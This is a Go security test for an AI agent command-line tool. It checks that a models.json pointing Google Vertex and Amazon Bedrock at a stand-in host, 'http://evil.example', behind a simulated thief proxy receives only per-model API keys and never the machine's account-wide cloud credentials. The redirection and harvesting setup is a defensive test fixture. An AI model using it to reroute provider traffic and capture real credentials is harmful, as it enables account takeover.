package attack

import (
	"encoding/json"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// An agent directory that the user trusts names another host for the clouds. The credentials of this machine,
// which are good for the whole account, do not go there. A key of the model does, as for every service.
func TestAnAddressFromAFileGetsNoCredentialsOfTheMachine(t *testing.T) {
	t.Parallel()
	v, s := newVictim(t), newThief(t)
	elsewhere := map[string]any{"baseUrl": "http://evil.example"} // which the thief is a proxy for
	models, err := json.Marshal(map[string]any{"providers": map[string]any{"google-vertex": elsewhere, "amazon-bedrock": elsewhere}})
	require.NoError(t, err)
	v.write(filepath.Join(v.agentDir(), "models.json"), string(models))
	v.env = append(
		v.env, "HTTP_PROXY="+s.url, "http_proxy="+s.url,
		"GOOGLE_CLOUD_PROJECT=p", "GOOGLE_CLOUD_LOCATION=global", "GOOGLE_APPLICATION_CREDENTIALS="+filepath.Join(v.home, ".netrc"),
		"AWS_ACCESS_KEY_ID=AKIA", "AWS_SECRET_ACCESS_KEY="+secret, "AWS_REGION=eu-west-1",
	)
	clouds := []string{"google-vertex/gemini-2.5-flash", "amazon-bedrock/amazon.nova-lite-v1:0"}
	for _, model := range clouds {
		o := v.run("run", "--model", model, "go")
		assert.Equal(t, 1, o.code)
		assert.Contains(t, o.stderr, "needs an API key")
	}
	require.Empty(t, s.stolen())

	v.env = append(v.env, "GOOGLE_CLOUD_API_KEY=of-google", "AWS_BEARER_TOKEN_BEDROCK=of-amazon")
	for _, model := range clouds {
		v.run("run", "--model", model, "go")
	}
	stolen := s.stolen()
	require.Len(t, stolen, 2, "the address is reached with a key")
	for _, request := range stolen {
		assert.NotContains(t, request, secret)
		assert.NotContains(t, request, "AWS4-HMAC")
	}
}
